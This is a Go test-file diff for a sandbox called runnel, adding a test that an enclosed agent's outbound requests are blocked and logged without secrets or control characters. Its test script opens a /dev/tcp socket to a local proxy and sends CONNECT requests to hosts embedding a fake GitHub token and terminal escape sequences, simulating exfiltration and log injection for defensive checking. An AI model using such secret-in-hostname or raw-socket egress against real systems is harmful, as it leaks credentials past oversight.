@@ -7,6 +7,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/runnel-dev/runnel"
 	"github.com/runnel-dev/runnel/internal/realagents"
 )
 
@@ -85,5 +86,35 @@ func TestToolInSandboxRunsNothingInAnotherSession(t *testing.T) {
 	w.tool(open, "true")
 	if _, err := os.Stat(escaped); err == nil {
 		t.Error("a tool in a sandbox ran a command outside of it")
+	}
+}
+
+// TestRecordOfEgressHasNoSecretsAndNoControlCharacters names hosts that contain
+// a secret and a control sequence.
+func TestRecordOfEgressHasNoSecretsAndNoControlCharacters(t *testing.T) {
+	w := newWorld(t, realagents.Claude(t)[0])
+	secret := "ghp_" + strings.Repeat("k7Q2", 9)
+	script := "#!/bin/bash\nfor h in " + secret + ".example.com %c2%9b31mred.example.com %e2%80%aeover.example.com\n" +
+		`do exec 3<>/dev/tcp/127.0.0.1/17318; printf 'CONNECT %s:443 HTTP/1.1\r\nHost: x\r\n\r\n' $h >&3; read -r answer <&3; echo "$answer"; done > over` + "\n"
+	if err := os.WriteFile(filepath.Join(w.home.Project, "name"), []byte(script), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	session := w.enclosed()
+	w.tool(session, "./name")
+	if over, err := os.ReadFile(filepath.Join(w.home.Project, "over")); err != nil || strings.Count(string(over), "403") != 3 {
+		t.Fatalf("the proxy answered %q, %v", over, err)
+	}
+	var record struct{ Attempts []runnel.EgressAttempt }
+	if code, _ := w.Call("GET", "/api/session/"+session+"/egress", nil, &record); code != http.StatusOK {
+		t.Fatalf("egress: %d", code)
+	}
+	file, err := os.ReadFile(filepath.Join(w.prog.Data, "egress", session+".jsonl"))
+	if err != nil || strings.Contains(strings.ToLower(string(file)), strings.ToLower(secret)) {
+		t.Errorf("the file of the record is %s, %v", file, err)
+	}
+	for _, a := range record.Attempts {
+		if strings.EqualFold(a.Host, secret+".example.com") || strings.ContainsAny(a.Host, "\u009b\u202e") {
+			t.Errorf("the record has the host %q", a.Host)
+		}
 	}
 }
